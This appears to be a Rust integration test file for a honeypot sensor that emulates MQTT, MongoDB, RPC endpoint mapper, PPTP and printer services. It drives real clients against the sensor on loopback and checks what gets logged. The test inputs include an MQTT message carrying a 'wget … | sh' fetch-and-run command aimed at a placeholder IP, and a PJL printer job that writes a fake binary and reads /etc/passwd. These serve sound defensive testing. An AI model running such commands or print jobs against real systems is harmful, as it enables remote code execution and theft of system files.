//! MQTT, MongoDB, EPMAP, PPTP and the printer port (issue 16) against their ordinary clients:
//! `mosquitto_pub`/`mosquitto_sub` (with -u/-P), pymongo (commands and a SCRAM login), impacket's
//! `rpcdump.py` through the endpoint mapper, `pptp` (pptp-linux) through the control
//! connection, `nc` sending a PJL job, and `nmap -sV` (with `pjl-ready-message` and
//! `pptp-version`) naming each service.
// Integration tests and benches may panic; the workspace denies unwrap/expect elsewhere.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use drosera_sensor::config::{Config, Persona, ServiceKind, ServiceSection};
use drosera_sensor::governor::Pressure;
use drosera_uplink::event::{Detail, Event, Protocol, SampleOutcome, Secret};
use std::time::Duration;
use support::{require_client, run_client, sha256_hex, Harness};
use tokio::process::Command;

const CLIENT_TIMEOUT: Duration = Duration::from_secs(40);

fn commands(evs: &[Event], p: Protocol) -> Vec<String> {
    evs.iter()
        .filter(|e| e.protocol == p)
        .filter_map(|e| match &e.detail {
            Detail::Command { line } => Some(line.clone()),
            _ => None,
        })
        .collect()
}

/// (user, secret, success, extra) of a login.
type Login = (String, Secret, bool, Vec<(String, String)>);

/// Each login of `p`.
fn logins(evs: &[Event], p: Protocol) -> Vec<Login> {
    evs.iter()
        .filter(|e| e.protocol == p)
        .filter_map(|e| match &e.detail {
            Detail::Login { username, secret, success, extra } => {
                Some((username.clone(), secret.clone(), *success, extra.clone()))
            }
            _ => None,
        })
        .collect()
}

fn field<'a>(extra: &'a [(String, String)], key: &str) -> &'a str {
    extra.iter().find(|(k, _)| k == key).map_or("", |(_, v)| v.as_str())
}

/// True if Debian's python3 has `module`. Missing: fails under DROSERA_REQUIRE_CLIENTS=1.
fn require_python_module(module: &str, package: &str) -> bool {
    let ok = std::process::Command::new("/usr/bin/python3")
        .args(["-c", &format!("import {module}")])
        .output()
        .map(|o| o.status.success())
        .unwrap_or(false);
    if !ok {
        if std::env::var("DROSERA_REQUIRE_CLIENTS").as_deref() == Ok("1") {
            panic!("{package} is required (DROSERA_REQUIRE_CLIENTS=1); run scripts/install-deps.sh");
        }
        eprintln!("SKIP: {package} not installed (run scripts/install-deps.sh)");
    }
    ok
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mosquitto_clients_log_in_subscribe_and_publish() {
    if !require_client("mosquitto_pub") || !require_client("mosquitto_sub") {
        return;
    }
    let mut cfg = support::config_for(&["mqtt"]);
    cfg.credentials.refuse_first = 0;
    cfg.credentials.accept = vec!["admin:*".into()];
    let h = Harness::start_with(cfg, Pressure::Normal, 100_000).await;
    let port = h.port(Protocol::Mqtt).to_string();
    // A publish with an accepted pair, at QoS 1 (PUBACK) under MQTT 5.
    let mut c = Command::new("mosquitto_pub");
    c.args(["-h", "127.0.0.1", "-p", &port, "-V", "mqttv5", "-i", "bot-7", "-u", "admin", "-P", "pa:ss w0rd"]).args([
        "-q",
        "1",
        "-t",
        "cmd/exec",
        "-m",
        "wget http://203.0.113.9/x.sh -O- | sh",
    ]);
    let out = run_client(c, CLIENT_TIMEOUT).await;
    assert!(out.status.success(), "mosquitto_pub: {}", String::from_utf8_lossy(&out.stderr));
    // A refused pair (MQTT 3.1.1): "not authorised".
    let mut c = Command::new("mosquitto_pub");
    c.args(["-h", "127.0.0.1", "-p", &port, "-V", "mqttv311", "-u", "guest", "-P", "guest", "-t", "a", "-m", "x"]);
    let out = run_client(c, CLIENT_TIMEOUT).await;
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr).to_lowercase();
    assert!(err.contains("not authori"), "{err}");
    // An anonymous subscriber to two topics (MQTT 3.1), waiting 1 s for messages.
    let mut c = Command::new("mosquitto_sub");
    c.args(["-h", "127.0.0.1", "-p", &port, "-V", "mqttv31", "-t", "#", "-t", "home/+/temp", "-W", "1"]);
    let _ = run_client(c, CLIENT_TIMEOUT).await;

    let evs = h.wait_connections(3, Duration::from_secs(10)).await;
    let l = logins(&evs, Protocol::Mqtt);
    assert_eq!(l.len(), 3, "{l:?}");
    assert_eq!((l[0].0.as_str(), &l[0].1, l[0].2), ("admin", &Secret::Password("pa:ss w0rd".into()), true));
    assert_eq!((field(&l[0].3, "client_id"), field(&l[0].3, "protocol")), ("bot-7", "MQTT 5.0"));
    assert_eq!((l[1].0.as_str(), &l[1].1, l[1].2), ("guest", &Secret::Password("guest".into()), false));
    assert_eq!(field(&l[1].3, "protocol"), "MQTT 3.1.1");
    assert_eq!((l[2].0.as_str(), &l[2].1, l[2].2), ("", &Secret::None, true));
    assert_eq!(field(&l[2].3, "protocol"), "MQIsdp 3.1");
    let cmds = commands(&evs, Protocol::Mqtt);
    assert!(cmds.contains(&"PUBLISH cmd/exec qos=1".to_string()), "{cmds:?}");
    assert!(cmds.contains(&"SUBSCRIBE # home/+/temp".to_string()), "{cmds:?}");
    let payload = evs.iter().find_map(|e| match &e.detail {
        Detail::Payload { name, prefix, .. } if e.protocol == Protocol::Mqtt => Some((name.clone(), prefix.clone())),
        _ => None,
    });
    assert_eq!(payload, Some(("cmd/exec".into(), b"wget http://203.0.113.9/x.sh -O- | sh".to_vec())));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pymongo_reads_server_info_and_lists_databases_and_its_scram_login_fails() {
    if !require_python_module("pymongo", "python3-pymongo") {
        return;
    }
    let h = Harness::start(&["mongodb"]).await;
    let port = h.port(Protocol::Mongodb).to_string();
    let script = r#"
import sys
from pymongo import MongoClient
from pymongo.errors import OperationFailure
port = int(sys.argv[1])
c = MongoClient('127.0.0.1', port, serverSelectionTimeoutMS=8000, connect=True)
print('VERSION', c.server_info()['version'])
print('DBS', ','.join(c.list_database_names()))
print('PING', c.admin.command('ping')['ok'])
try:
    c.shop.orders.find_one()
except OperationFailure as e:
    print('FIND', e.code)
a = MongoClient('127.0.0.1', port, username='dbadmin', password='hunter2', authSource='admin',
                authMechanism='SCRAM-SHA-256', serverSelectionTimeoutMS=8000)
try:
    a.admin.command('ping')
    print('AUTH ok')
except OperationFailure as e:
    print('AUTH', e.code, e)
"#;
    let mut c = Command::new("/usr/bin/python3");
    c.args(["-c", script, &port]);
    let out = run_client(c, CLIENT_TIMEOUT).await;
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.success(), "{text}\n{}", String::from_utf8_lossy(&out.stderr));
    for want in ["VERSION 6.0.12", "DBS admin,config,local", "PING 1.0", "FIND 13", "AUTH 18 Authentication failed."] {
        assert!(text.contains(want), "{want:?} in\n{text}");
    }
    let evs = h.wait_connections(2, Duration::from_secs(10)).await;
    let cmds = commands(&evs, Protocol::Mongodb);
    for want in ["buildinfo db=admin", "listDatabases db=admin", "ping db=admin", "find db=shop collection=orders"] {
        assert!(cmds.iter().any(|c| c.eq_ignore_ascii_case(want)), "{want:?} in {cmds:?}");
    }
    assert!(cmds.iter().any(|c| c.starts_with("ismaster") || c.starts_with("isMaster") || c.starts_with("hello")));
    let l = logins(&evs, Protocol::Mongodb);
    assert!(l.iter().any(|(u, _, ok, x)| u == "dbadmin" && !ok && field(x, "mechanism") == "SCRAM-SHA-256"), "{l:?}");
    assert!(l.iter().all(|(u, _, ok, _)| u == "dbadmin" && !ok), "{l:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nc_print_job_is_kept_whole_and_its_pjl_commands_recorded() {
    if !require_client("nc") {
        return;
    }
    let h = Harness::start(&["printer"]).await;
    let port = h.port(Protocol::Printer).to_string();
    let mut job = b"\x1b%-12345X@PJL INFO ID\r\n@PJL RDYMSG DISPLAY=\"PWNED\"\r\n@PJL INFO STATUS\r\n".to_vec();
    job.extend_from_slice(b"@PJL FSDOWNLOAD FORMAT:BINARY SIZE=4 NAME=\"0:\\evil\"\r\nELF!");
    job.extend_from_slice(
        b"@PJL ENTER LANGUAGE=POSTSCRIPT\r\n%!PS-Adobe-3.0\n(/etc/passwd) (r) file\nshowpage\n\x1b%-12345X",
    );
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("job.pjl");
    std::fs::write(&path, &job).unwrap();
    let mut c = Command::new("sh");
    c.args(["-c", &format!("nc -q 2 127.0.0.1 {port} < {}", path.display())]);
    let out = run_client(c, CLIENT_TIMEOUT).await;
    let reply = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(reply.contains("@PJL INFO ID\r\n\"HP LaserJet 4250\"\r\n\x0c"), "{reply:?}");
    assert!(reply.contains("DISPLAY=\"PWNED\""), "{reply:?}");
    let evs = h.wait_connections(1, Duration::from_secs(15)).await;
    let cmds = commands(&evs, Protocol::Printer);
    for want in [
        "PJL INFO ID",
        "PJL RDYMSG DISPLAY=\"PWNED\"",
        "PJL FSDOWNLOAD FORMAT:BINARY SIZE=4 NAME=\"0:\\evil\"",
        "PJL ENTER LANGUAGE=POSTSCRIPT",
        "PostScript %!PS-Adobe-3.0",
        "PostScript (/etc/passwd) (r) file",
    ] {
        assert!(cmds.contains(&want.to_string()), "{want:?} in {cmds:?}");
    }
    let sample = evs.iter().find_map(|e| match &e.detail {
        Detail::Sample { sha256, size, source, outcome, .. } => {
            Some((hex::encode(sha256), *size, source.clone(), *outcome))
        }
        _ => None,
    });
    let want = sha256_hex(&job);
    assert_eq!(sample, Some((want.clone(), job.len() as u64, "printer-job".into(), SampleOutcome::Kept)));
    assert_eq!(std::fs::read(h.samples_dir().join(&want)).unwrap(), job);
}

/// The given services on their standard ports of a free loopback address other than 127.0.0.1.
fn standard_ports_config(persona: Persona, ports: &[(ServiceKind, u16)]) -> (Config, std::net::IpAddr) {
    for attempt in 0..50u32 {
        let n = std::process::id().wrapping_mul(2_654_435_761).wrapping_add(attempt * 7919 + 29);
        let ip = std::net::IpAddr::from([127, 17 + (n % 200) as u8, (n >> 8) as u8, 2 + (n >> 16) as u8 % 250]);
        if ports.iter().any(|(_, p)| std::net::TcpListener::bind((ip, *p)).is_err()) {
            continue;
        }
        let mut cfg = support::config_for(&[]);
        cfg.sensor.persona = persona;
        cfg.services = ports.iter().map(|(k, p)| ServiceSection::new(*k, ip, vec![*p])).collect();
        return (cfg, ip);
    }
    panic!("no free loopback address for the standard ports");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rpcdump_lists_a_windows_file_servers_endpoints() {
    if !require_python_module("impacket", "python3-impacket") {
        return;
    }
    let (cfg, ip) = standard_ports_config(Persona::WindowsServer, &[(ServiceKind::Epmap, 135)]);
    let h = Harness::start_with(cfg, Pressure::Normal, 100_000).await;
    let mut c = Command::new("/usr/bin/python3");
    c.args(["/usr/share/doc/python3-impacket/examples/rpcdump.py", "-port", "135", &ip.to_string()]);
    let out = run_client(c, CLIENT_TIMEOUT).await;
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    eprintln!("{text}\n{stderr}");
    // A Windows file server's endpoints: SAMR over TCP and over the SMB host's lsass pipe.
    for want in [
        "Received 8 endpoints.",
        "UUID    : 12345778-1234-ABCD-EF00-0123456789AC v1.0",
        "ncacn_np:\\\\FILESRV01[\\PIPE\\lsass]",
        "ncacn_ip_tcp:0.0.0.0[49156]",
        "UUID    : F6BEAFF7-1E19-4FBB-9F8F-B89E2018337C v1.0 Event log TCPIP",
    ] {
        assert!(text.contains(want) || stderr.contains(want), "{want:?} in\n{text}\n{stderr}");
    }
    let evs = h.wait_connections(1, Duration::from_secs(10)).await;
    let cmds = commands(&evs, Protocol::Epmap);
    assert!(
        cmds.iter().any(|c| c.starts_with("bind e1af8308-5d1f-11c9-91a4-08002b14a0fa v3.0 (EPM (endpoint mapper))")),
        "{cmds:?}"
    );
    assert!(cmds.iter().any(|c| c.starts_with("request EPM (endpoint mapper) opnum 2")), "{cmds:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pptp_client_opens_the_control_connection_and_a_call() {
    if !require_client("pptp") {
        return;
    }
    let (cfg, ip) = standard_ports_config(Persona::WindowsServer, &[(ServiceKind::Pptp, 1723)]);
    let h = Harness::start_with(cfg, Pressure::Normal, 100_000).await;
    // pptp without pppd: the control connection and the call request happen, then the client
    // waits for PPP on stdin; it is stopped after the call is recorded.
    let mut c = Command::new("pptp");
    c.args([&ip.to_string(), "--nolaunchpppd", "--debug", "--phone", "5550123", "--nohostroute"]);
    c.kill_on_drop(true).stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::null());
    let mut child = c.spawn().unwrap();
    let evs = h
        .wait_for(Duration::from_secs(20), |evs| {
            commands(evs, Protocol::Pptp).iter().any(|c| c.starts_with("Outgoing-Call-Request"))
        })
        .await;
    let _ = child.kill().await;
    let fp = evs
        .iter()
        .find_map(|e| match &e.detail {
            Detail::Fingerprint { kind, extra, .. } if kind == "pptp-client" => Some(extra.clone()),
            _ => None,
        })
        .unwrap();
    assert_eq!((field(&fp, "vendor"), field(&fp, "version"), field(&fp, "cookie_ok")), ("cananian", "1.0", "true"));
    let cmds = commands(&evs, Protocol::Pptp);
    assert!(cmds.iter().any(|c| c.contains("phone=\"5550123\"")), "{cmds:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nmap_names_the_five_services() {
    if !require_client("nmap") {
        return;
    }
    let ports = [
        (ServiceKind::Mqtt, 1883),
        (ServiceKind::Mongodb, 27017),
        (ServiceKind::Epmap, 135),
        (ServiceKind::Pptp, 1723),
        (ServiceKind::Printer, 9100),
    ];
    let (cfg, ip) = standard_ports_config(Persona::WindowsServer, &ports);
    let h = Harness::start_with(cfg, Pressure::Normal, 100_000).await;
    let mut c = Command::new("nmap");
    c.args(["-sV", "--allports", "-Pn", "-n", "--host-timeout", "150s", "-p", "135,1723,1883,9100,27017"]).args([
        "--script",
        "pjl-ready-message,pptp-version",
        &ip.to_string(),
    ]);
    let out = run_client(c, Duration::from_secs(180)).await;
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    eprintln!("{text}");
    for (port, service, product) in [
        ("135/tcp", "msrpc", "Microsoft Windows RPC"),
        ("1723/tcp", "pptp", "Microsoft (Firmware: 3790)"),
        // nmap's mqtt-subscribe names the service by the broker version it read under $SYS.
        ("1883/tcp", "mosquitto version 2.0.11", ""),
        ("9100/tcp", "hp-pjl", "HP LaserJet 4250"),
        ("27017/tcp", "mongodb", "MongoDB 6.0.12"),
    ] {
        let line = text.lines().find(|l| l.starts_with(port)).unwrap_or("");
        assert!(line.contains(" open ") && line.contains(service) && line.contains(product), "{port} in\n{text}");
    }
    assert!(text.contains("pjl-ready-message: \"Ready\""), "{text}");
    assert!(text.contains("mosquitto version 2.0.11"), "{text}");
    let evs = h.wait_connections(5, Duration::from_secs(10)).await;
    assert!(evs.iter().any(|e| e.protocol == Protocol::Printer
        && matches!(&e.detail, Detail::Command { line } if line == "PJL INFO STATUS")));
}
